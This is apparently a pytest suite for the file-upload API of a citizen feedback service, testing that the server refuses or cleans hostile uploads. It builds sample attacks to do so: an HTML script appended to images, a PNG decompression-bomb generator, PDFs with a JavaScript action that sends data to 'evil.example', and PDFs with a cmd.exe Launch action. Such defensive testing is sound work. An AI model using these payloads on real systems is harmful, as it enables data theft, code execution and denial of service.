"""Uploads from the attacker's side: files that are also web pages, decompression bombs, photos that
give away where they were taken, PDFs that run scripts, floods of uploads, and a full disk.

Every hostile file is made here, by Pillow, pypdf or by hand, and sent through the API."""

import hashlib
import io
import itertools
import struct
import zlib

import pytest
from PIL import ExifTags, Image, PngImagePlugin
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.annotations import Link
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject, TextStringObject

from services.models import Attachment
from tests.conftest import Caller, assert_problem
from tests.feedback_fixtures import *  # noqa: F403
from tests.feedback_fixtures import JPEG, PDF, PNG, image_file, pdf_file, submit, upload

ATTACHMENTS = "/api/v1/attachments"
HTML = b"<html><body><script>fetch('/api/v1/feedback/mine').then(r => r.text()).then(alert)</script></html>"
DAYS = 24 * 3600


@pytest.fixture
def stored(sql, attachments_dir):
    """What is stored: (attachment rows, files on disk)."""
    return lambda: (
        sql("SELECT count(*) FROM attachments").scalar(),
        sorted(p for p in attachments_dir.rglob("*") if p.is_file()),
    )


def photo_of(response) -> Image.Image:
    image = Image.open(io.BytesIO(response.data))
    image.load()
    return image


# ---------------------------------------------------------------- files that are also web pages


@pytest.mark.parametrize(("photo", "kind"), [(JPEG, "JPEG"), (PNG, "PNG")])
def test_a_photo_with_a_web_page_appended_comes_back_without_it(citizen, db, photo, kind):
    created = upload(citizen, photo + HTML, "photo.jpg")
    served = citizen.get(created["url"])

    assert b"<html" not in served.data and b"script" not in served.data
    assert photo_of(served).format == kind and photo_of(served).size == (8, 8)
    row = db.get(Attachment, created["id"])
    assert (row.size, row.sha256) == (len(served.data), hashlib.sha256(served.data).hexdigest())


def test_a_png_text_chunk_holding_a_script_is_dropped(citizen):
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Comment", HTML.decode())
    notes.add_itxt("Description", HTML.decode(), zip=True)
    served = citizen.get(upload(citizen, image_file("PNG", pnginfo=notes), "a.png")["url"])
    assert b"script" not in served.data and photo_of(served).info == {}


def test_files_are_served_so_that_a_browser_runs_nothing(citizen):
    photo, document = upload(citizen), upload(citizen, PDF, "thong-bao.pdf")

    served = citizen.get(photo["url"])
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    assert served.headers["Content-Security-Policy"] == "default-src 'none'; sandbox; frame-ancestors 'none'"
    assert served.headers["Content-Disposition"] == f'inline; filename="{photo["id"]}.jpg"'
    assert served.headers["Cache-Control"] == "private"

    served = citizen.get(document["url"])
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    assert served.headers["Content-Security-Policy"] == "default-src 'none'; sandbox; frame-ancestors 'none'"
    assert served.headers["Content-Disposition"] == f'attachment; filename="{document["id"]}.pdf"'
    assert served.mimetype == "application/pdf" and served.data == PDF


# ---------------------------------------------------------------- decompression bombs and damaged images


def png_of_zeros(width: int, height: int) -> bytes:
    """A black 1-bit PNG of width × height pixels: a few hundred kilobytes of compressed zeros."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    row, packer = b"\x00" * (1 + (width + 7) // 8), zlib.compressobj(9)
    pixels = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


@pytest.mark.parametrize("size", [(20_000, 20_000), (8_000, 6_000)])
def test_a_decompression_bomb_is_refused_and_nothing_is_stored(citizen, stored, size):
    bomb = png_of_zeros(*size)
    assert len(bomb) < 1024 * 1024 and struct.unpack(">II", bomb[16:24]) == size  # IHDR's width, height
    before = stored()

    body = upload(citizen, bomb, "map.png", expect=422)

    assert body["code"] == "image_too_large" and "40 megapixels" in body["errors"]["file"][0]
    assert stored() == before


def test_a_photo_of_forty_megapixels_is_taken(citizen):
    created = upload(citizen, png_of_zeros(8_000, 5_000), "scan.png")
    assert photo_of(citizen.get(created["url"])).size == (8_000, 5_000)


def noise(kind: str) -> bytes:
    out = io.BytesIO()
    Image.effect_noise((64, 64), 100).save(out, kind)
    return out.getvalue()


NOISE_JPEG, NOISE_PNG = noise("JPEG"), noise("PNG")


@pytest.mark.parametrize(
    "damaged",
    [
        NOISE_JPEG[: len(NOISE_JPEG) // 2],  # cut off half-way: a good header, half the pixels
        NOISE_PNG[: len(NOISE_PNG) // 2],
        b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\x00" * 32,
    ],
)
def test_an_image_that_cannot_be_decoded_is_refused(citizen, stored, damaged):
    before = stored()
    assert upload(citizen, damaged, "photo.jpg", expect=422)["code"] == "image_unreadable"
    assert stored() == before


# ---------------------------------------------------------------- metadata


def located_photo(kind: str) -> bytes:
    """A 30 × 20 photo taken with the phone on its side, saying where and on which phone."""
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6  # turn 90° clockwise to view
    exif[ExifTags.Base.Make] = "Vsmart"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef], gps[ExifTags.GPS.GPSLatitude] = "N", (16.0, 3.0, 42.0)
    gps[ExifTags.GPS.GPSLongitudeRef], gps[ExifTags.GPS.GPSLongitude] = "E", (108.0, 13.0, 14.0)
    return image_file(kind, size=(30, 20), exif=exif)


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_a_photo_comes_back_upright_without_its_position_or_any_exif(citizen, kind):
    photo = located_photo(kind)
    assert Image.open(io.BytesIO(photo)).getexif().get_ifd(ExifTags.IFD.GPSInfo)  # the position is there

    served = citizen.get(upload(citizen, photo, "photo")["url"])

    image = photo_of(served)
    assert image.size == (20, 30)  # turned upright, so the orientation tag is no longer needed
    assert dict(image.getexif()) == {} and "exif" not in image.info
    assert b"Vsmart" not in served.data and b"Exif" not in served.data


def test_a_phones_multi_picture_jpeg_is_kept_as_its_first_picture(citizen):
    photo, preview, out = Image.new("RGB", (16, 12), "red"), Image.new("RGB", (8, 6), "blue"), io.BytesIO()
    photo.save(out, "MPO", save_all=True, append_images=[preview])

    created = upload(citizen, out.getvalue(), "IMG_0001.jpg")

    served = photo_of(citizen.get(created["url"]))
    assert created["content_type"] == "image/jpeg" and served.format == "JPEG"
    assert served.size == (16, 12) and getattr(served, "n_frames", 1) == 1


# ---------------------------------------------------------------- PDFs


def pdf_with(change) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    change(writer)
    return pdf_file(writer)


def open_with_script(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.launchURL('http://evil.example/?c=' + this.info.Title)"),
        }
    )


def pdf_with_object_stream(catalog_entries: bytes, more_objects: int = 0) -> bytes:
    """A PDF 1.5 as many writers make them: its catalog, pages and page (and `more_objects` nulls)
    compressed in an object stream, found through a cross-reference stream."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R" + catalog_entries + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
        *[b"null"] * more_objects,
    ]
    offsets = itertools.accumulate((len(text) + 1 for text in objects[:-1]), initial=0)
    index = b"".join(b"%d %d " % pair for pair in enumerate(offsets, start=1))
    packed = zlib.compress(index + b"".join(text + b"\n" for text in objects))
    stream, xref = len(objects) + 1, len(objects) + 2  # the object stream's number, the xref stream's
    out = b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"
    stream_at = len(out)
    out += (
        b"%d 0 obj\n<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>\nstream\n"
        % (stream, len(objects), len(index), len(packed))
        + packed
        + b"\nendstream\nendobj\n"
    )
    xref_at = len(out)
    rows = [(0, 0, 65535), *((2, stream, n) for n in range(len(objects))), (1, stream_at, 0), (1, xref_at, 0)]
    table = b"".join(struct.pack(">BII", *row) for row in rows)
    out += (
        b"%d 0 obj\n<</Type/XRef/Size %d/W[1 4 4]/Root 1 0 R/Length %d>>\nstream\n"
        % (xref, len(rows), len(table))
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    )
    return out


ORPHAN = b"\n9 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n"


@pytest.mark.parametrize(
    ("pdf", "named"),
    [
        (pdf_with(open_with_script), "/JavaScript"),
        (pdf_with(lambda w: w.add_open_action(JavaScript("this.print({bUI: false})"))), "/JavaScript"),
        (pdf_with(lambda w: w.add_attachment("hoa-don.exe", b"MZ\x90\x00")), "/EmbeddedFile"),
        # Hidden where a byte scan cannot look: compressed, with the names written as #xx escapes.
        (pdf_with_object_stream(b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>"), "/OpenAction"),
        (pdf_with_object_stream(b"/AA<</WC<</S/GoTo/D[3 0 R/Fit]>>>>"), "/AA"),
        # Outside every cross-reference entry, where only a repairing viewer finds it.
        (PDF + ORPHAN, "/Launch"),
        (PDF + ORPHAN.replace(b"/Launch", b"/L#61unch"), "/Launch"),
    ],
)
def test_a_pdf_that_can_act_by_itself_is_refused(staff, stored, pdf, named):
    before = stored()
    body = upload(staff["editor_a"], pdf, "du-thao.pdf", expect=422)
    assert body["code"] == "pdf_active_content" and named in body["errors"]["file"][0]
    assert stored() == before


@pytest.mark.parametrize(
    "pdf",
    [
        pdf_with_object_stream(b"/PageMode/UseOutlines"),
        pdf_with_object_stream(b"/OpenAction[3 0 R/Fit]"),  # opens at the first page
        pdf_with_object_stream(b"/OpenAction<</S/GoTo/D[3 0 R/FitH 842]>>"),
        pdf_with(
            lambda w: w.add_annotation(0, Link(rect=(50, 50, 300, 80), url="https://danang.gov.vn/van-ban"))
        ),
    ],
)
def test_a_plain_pdf_with_links_and_an_opening_page_is_kept_as_sent(staff, pdf):
    created = upload(staff["editor_a"], pdf, "du-thao.pdf")
    assert staff["editor_a"].get(created["url"]).data == pdf


@pytest.mark.parametrize(
    "pdf",
    [
        pdf_with(lambda w: w.encrypt("mat-khau")),  # the checker cannot read it without the password
        b"%PDF-1.7\n" + HTML,
        pdf_with_object_stream(b"/Nested" + b"[" * 50_000 + b"]" * 50_000),  # deeper than a parser's stack
    ],
)
def test_a_pdf_that_cannot_be_read_is_refused(citizen, stored, pdf):
    before = stored()
    assert upload(citizen, pdf, "a.pdf", expect=422)["code"] == "pdf_unreadable"
    assert stored() == before


def test_a_pdf_of_more_objects_than_can_be_checked_in_time_is_refused(citizen, stored):
    crowded = pdf_with_object_stream(b"", more_objects=20_000)  # 20,003 objects in 60 kB
    before = stored()
    body = upload(citizen, crowded, "a.pdf", expect=422)
    assert body["code"] == "pdf_too_complex" and "20,000 objects" in body["errors"]["file"][0]
    assert stored() == before
    upload(citizen, pdf_with_object_stream(b"", more_objects=2_000), "b.pdf")


# ---------------------------------------------------------------- floods


def test_a_device_uploads_ten_files_a_minute(citizen):
    for _ in range(3):  # refused files do not use up the allowance
        upload(citizen, HTML, "page.html", expect=422)
    for _ in range(10):
        upload(citizen)
    limited = citizen.post(ATTACHMENTS, data={"file": (io.BytesIO(JPEG), "a.jpg")})
    assert_problem(limited, 429, "rate_limited")
    assert int(limited.headers["Retry-After"]) > 0


def test_new_devices_do_not_escape_the_limit_of_their_address(app, make_device):
    phones = [Caller(app.test_client(), make_device().token) for _ in range(4)]
    for n in range(30):  # every attempt counts, even a refused one
        upload(phones[n % 4], HTML, "page.html", expect=422)
    fresh = Caller(app.test_client(), make_device().token)
    limited = fresh.post(ATTACHMENTS, data={"file": (io.BytesIO(JPEG), "a.jpg")})
    assert_problem(limited, 429, "rate_limited")
    assert int(limited.headers["Retry-After"]) > 0
    other_address = fresh.post(
        ATTACHMENTS, data={"file": (io.BytesIO(JPEG), "a.jpg")}, environ_base={"REMOTE_ADDR": "203.0.113.9"}
    )
    assert other_address.status_code == 201


def test_an_officer_uploads_thirty_files_a_minute_from_any_address(staff):
    officer = staff["officer_a"]
    for n in range(30):
        upload_from = {"REMOTE_ADDR": f"198.51.100.{n}"}
        sent = officer.post(ATTACHMENTS, data={"file": (io.BytesIO(PNG), "a.png")}, environ_base=upload_from)
        assert sent.status_code == 201
    limited = officer.post(
        ATTACHMENTS, data={"file": (io.BytesIO(PNG), "a.png")}, environ_base={"REMOTE_ADDR": "198.51.100.99"}
    )
    assert_problem(limited, 429, "rate_limited")


# ---------------------------------------------------------------- unused uploads


def test_a_device_may_keep_twenty_unused_uploads_until_it_sends_them(app, citizen, road_form, department_a):
    from api import limits

    photos = []
    for _ in range(2):
        photos += [upload(citizen)["id"] for _ in range(10)]
        limits.reset(app)  # the next minute

    refused = citizen.post(ATTACHMENTS, data={"file": (io.BytesIO(JPEG), "a.jpg")})

    body = assert_problem(refused, 429, "upload_quota_exceeded")
    assert "20 uploads" in body["detail"] and "Send them" in body["detail"]
    assert 6 * DAYS < int(refused.headers["Retry-After"]) <= 7 * DAYS  # when the oldest may be purged
    submit(citizen, answers={"where": "Cầu Rồng", "kind": "pothole", "photos": photos[:3]})
    upload(citizen)  # sending three made room for three


def test_a_device_may_keep_fifty_megabytes_unused(citizen):
    def large_pdf(writer):  # stored as sent: about 10 MB
        page = writer.pages[0]
        content = DecodedStreamObject()
        content.set_data(b"q Q\n" * 2_490_000)
        page.replace_contents(content)

    document = pdf_with(large_pdf)
    assert 9_900_000 < len(document) < 10_100_000
    for _ in range(5):
        upload(citizen, document, "ban-do.pdf")
    body = upload(citizen, document, "ban-do.pdf", expect=429)
    assert (
        body["code"] == "upload_quota_exceeded"
        and "5 uploads" in body["detail"]
        and "50 MB" in body["detail"]
    )
    upload(citizen)  # a small photo still fits


# ---------------------------------------------------------------- a full disk


def test_uploads_stop_before_the_disk_is_full(make_app, citizen, stored):
    # A floor of a petabyte: more than this disk has free, whatever disk the tests run on.
    strict = Caller(make_app(ATTACHMENTS_MIN_FREE_MB=1024**3).test_client(), citizen.token)
    before = stored()

    refused = strict.post(ATTACHMENTS, data={"file": (io.BytesIO(JPEG), "a.jpg")})

    assert "disk space" in assert_problem(refused, 507, "storage_full")["detail"]
    assert stored() == before
